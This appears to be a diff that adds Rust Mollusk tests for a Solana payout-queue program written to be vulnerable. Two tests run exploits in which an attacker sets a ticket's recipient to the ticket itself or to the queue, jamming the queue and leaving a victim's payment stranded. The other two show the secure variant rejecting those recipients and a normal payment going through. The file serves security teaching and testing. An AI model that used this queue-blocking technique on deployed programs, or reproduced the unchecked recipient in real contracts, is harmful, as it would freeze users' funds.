@@ -0,0 +1,309 @@
+/// # Pattern 207: Close Target Alias — Mollusk Exploit Tests
+///
+/// The payout queue exists and is empty. The victim wants to pay 1 SOL to
+/// a supplier through it; the attacker wants the queue stuck.
+///
+/// - Test 1: EXPLOIT — the attacker enqueues a ticket whose recipient is
+///   the ticket itself. process_next fails on it every time, and the
+///   victim's payment behind it can't be processed either.
+/// - Test 2: EXPLOIT — a ticket whose recipient is the queue blocks the
+///   head the same way.
+/// - Test 3: SECURE — enqueue_secure rejects both recipients.
+/// - Test 4: SANITY — the victim enqueues a payment through enqueue_secure
+///   and a crank delivers it, rent included.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{
+    account_discriminator, executable_account, ix_discriminator, owned_account, system_account,
+    Ledger,
+};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("918dxFWQgbJADbxDYMaUX6aG44RDCZuodH5y49WQXTf2");
+
+const SOL: u64 = 1_000_000_000;
+const RENT: u64 = 2_000_000;
+const WALLET: u64 = 10 * SOL;
+
+/// The victim's payment to their supplier.
+const PAYMENT: u64 = SOL;
+
+// Error codes
+const CONSTRAINT_SEEDS: u32 = 2006;
+const CONSTRAINT_CLOSE: u32 = 2011;
+const RECIPIENT_IS_TICKET: u32 = 6000;
+const RECIPIENT_IS_QUEUE: u32 = 6001;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Queue account:
+///   [8 disc][8 head][8 tail][1 bump]
+fn serialize_queue(head: u64, tail: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(25);
+    data.extend_from_slice(&account_discriminator("Queue"));
+    data.extend_from_slice(&head.to_le_bytes());
+    data.extend_from_slice(&tail.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// Serialize a Ticket account:
+///   [8 disc][8 seq][32 recipient][8 amount][1 bump]
+fn serialize_ticket(seq: u64, recipient: &Pubkey, amount: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(57);
+    data.extend_from_slice(&account_discriminator("Ticket"));
+    data.extend_from_slice(&seq.to_le_bytes());
+    data.extend_from_slice(recipient.as_ref());
+    data.extend_from_slice(&amount.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// An empty queue and two not-yet-created tickets, seq 0 and seq 1.
+struct Setup {
+    mollusk: Mollusk,
+    queue: Pubkey,
+    queue_bump: u8,
+    tickets: [(Pubkey, u8); 2],
+    attacker: Pubkey,
+    victim: Pubkey,
+    supplier: Pubkey,
+    ledger: Ledger,
+}
+
+fn setup() -> Setup {
+    let (queue, queue_bump) = Pubkey::find_program_address(&[b"queue"], &PROGRAM_ID);
+    let tickets = [0u64, 1].map(|seq| {
+        Pubkey::find_program_address(
+            &[b"ticket", queue.as_ref(), &seq.to_le_bytes()],
+            &PROGRAM_ID,
+        )
+    });
+    let attacker = Pubkey::new_unique();
+    let victim = Pubkey::new_unique();
+    let supplier = Pubkey::new_unique();
+
+    let ledger = vec![
+        (
+            queue,
+            owned_account(&serialize_queue(0, 0, queue_bump), RENT, &PROGRAM_ID),
+        ),
+        (tickets[0].0, AccountSharedData::default()),
+        (tickets[1].0, AccountSharedData::default()),
+        (attacker, system_account(WALLET)),
+        (victim, system_account(WALLET)),
+        (supplier, system_account(0)),
+        (
+            solana_sdk::system_program::ID,
+            executable_account(&solana_sdk::native_loader::id()),
+        ),
+    ];
+
+    Setup {
+        mollusk: Mollusk::new(&PROGRAM_ID, "close_target_alias"),
+        queue,
+        queue_bump,
+        tickets,
+        attacker,
+        victim,
+        supplier,
+        ledger: Ledger::new(ledger),
+    }
+}
+
+impl Setup {
+    /// enqueue_vulnerable / enqueue_secure, opening ticket `seq`.
+    fn enqueue(
+        &self,
+        name: &str,
+        payer: Pubkey,
+        seq: usize,
+        recipient: &Pubkey,
+        amount: u64,
+    ) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(recipient.as_ref());
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.queue, false),
+                AccountMeta::new(self.tickets[seq].0, false),
+                AccountMeta::new(payer, true),
+                AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+            ],
+        )
+    }
+
+    fn process_next(&self, seq: usize, recipient: Pubkey, cranker: Pubkey) -> Instruction {
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &ix_discriminator("process_next"),
+            vec![
+                AccountMeta::new(self.queue, false),
+                AccountMeta::new(self.tickets[seq].0, false),
+                AccountMeta::new(recipient, false),
+                AccountMeta::new_readonly(cranker, true),
+            ],
+        )
+    }
+
+    fn queue_data(&self, head: u64, tail: u64) -> Vec<u8> {
+        serialize_queue(head, tail, self.queue_bump)
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_self_recipient_blocks_queue_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT:
+    //   1. Attacker: enqueue_vulnerable(recipient = ticket 0, amount = 0)
+    //   2. Victim:   enqueue_secure(recipient = supplier, 1 SOL) → ticket 1
+    //   3. Victim:   process_next on ticket 0, recipient = ticket 0
+    //   4. Victim:   process_next on ticket 1
+    //
+    // Expected: 1 and 2 SUCCEED. 3 FAILS with ConstraintClose (2011): the
+    //           ticket can't be closed into itself, and no other recipient
+    //           passes has_one. 4 FAILS with ConstraintSeeds (2006): the
+    //           head is still 0. The victim's 1 SOL is stuck in ticket 1.
+    // -----------------------------------------------------------------------
+    let mut s = setup();
+    let (queue, attacker, victim, supplier) = (s.queue, s.attacker, s.victim, s.supplier);
+    let (ticket0, bump0) = s.tickets[0];
+    let ticket1 = s.tickets[1].0;
+
+    let ix = s.enqueue("enqueue_vulnerable", attacker, 0, &ticket0, 0);
+    let recorded = serialize_ticket(0, &ticket0, 0, bump0);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&ticket0).data(&recorded).build(),
+        ],
+    );
+
+    let ix = s.enqueue("enqueue_secure", victim, 1, &supplier, PAYMENT);
+    let queued = s.queue_data(0, 2);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&queue).data(&queued).build(),
+        ],
+    );
+    let escrowed = s.ledger.lamports(&ticket1);
+
+    let ix = s.process_next(0, ticket0, victim);
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(CONSTRAINT_CLOSE))]);
+
+    let ix = s.process_next(1, supplier, victim);
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(CONSTRAINT_SEEDS))]);
+
+    assert_eq!(s.ledger.data(&queue), queued.as_slice());
+    assert_eq!(s.ledger.lamports(&ticket1), escrowed);
+    assert_eq!(s.ledger.lamports(&supplier), 0);
+}
+
+#[test]
+fn exploit_queue_recipient_blocks_queue_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT:
+    //   1. Attacker: enqueue_vulnerable(recipient = queue, amount = 0)
+    //   2. Victim:   process_next on ticket 0, recipient = queue
+    //
+    // Expected: 1 SUCCEEDS. 2 FAILS with RecipientIsQueue (6001): paying
+    //           the queue would strand the ticket's lamports in it, so the
+    //           head is blocked here too.
+    // -----------------------------------------------------------------------
+    let mut s = setup();
+    let (queue, attacker, victim) = (s.queue, s.attacker, s.victim);
+
+    let ix = s.enqueue("enqueue_vulnerable", attacker, 0, &queue, 0);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+
+    let ix = s.process_next(0, queue, victim);
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(RECIPIENT_IS_QUEUE))]);
+
+    assert_eq!(s.ledger.data(&queue), s.queue_data(0, 1).as_slice());
+}
+
+#[test]
+fn secure_enqueue_rejects_aliased_recipient() {
+    // -----------------------------------------------------------------------
+    // SECURE: The attacker tries both recipients through enqueue_secure.
+    //
+    // Expected: recipient = ticket 0 FAILS with RecipientIsTicket (6000);
+    //           recipient = queue FAILS with RecipientIsQueue (6001). No
+    //           ticket is recorded and the tail stays at 0.
+    // -----------------------------------------------------------------------
+    let mut s = setup();
+    let (queue, attacker) = (s.queue, s.attacker);
+    let ticket0 = s.tickets[0].0;
+
+    let ix = s.enqueue("enqueue_secure", attacker, 0, &ticket0, 0);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(RECIPIENT_IS_TICKET))],
+    );
+
+    let ix = s.enqueue("enqueue_secure", attacker, 0, &queue, 0);
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(RECIPIENT_IS_QUEUE))]);
+
+    assert_eq!(s.ledger.data(&queue), s.queue_data(0, 0).as_slice());
+}
+
+#[test]
+fn sanity_payment_delivered_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY:
+    //   1. Victim: enqueue_secure(recipient = supplier, 1 SOL)
+    //   2. Anyone: process_next on ticket 0, recipient = supplier
+    //
+    // Expected: both SUCCEED. The supplier receives everything the ticket
+    //           held, the 1 SOL and its rent; the ticket is closed and the
+    //           head advances to 1.
+    // -----------------------------------------------------------------------
+    let mut s = setup();
+    let (queue, victim, supplier) = (s.queue, s.victim, s.supplier);
+    let (ticket0, bump0) = s.tickets[0];
+
+    let ix = s.enqueue("enqueue_secure", victim, 0, &supplier, PAYMENT);
+    let recorded = serialize_ticket(0, &supplier, PAYMENT, bump0);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&ticket0).data(&recorded).build(),
+        ],
+    );
+    let escrowed = s.ledger.lamports(&ticket0);
+    assert!(escrowed > PAYMENT);
+
+    let ix = s.process_next(0, supplier, victim);
+    let advanced = s.queue_data(1, 1);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&ticket0).lamports(0).build(),
+            Check::account(&supplier).lamports(escrowed).build(),
+            Check::account(&queue).data(&advanced).build(),
+        ],
+    );
+}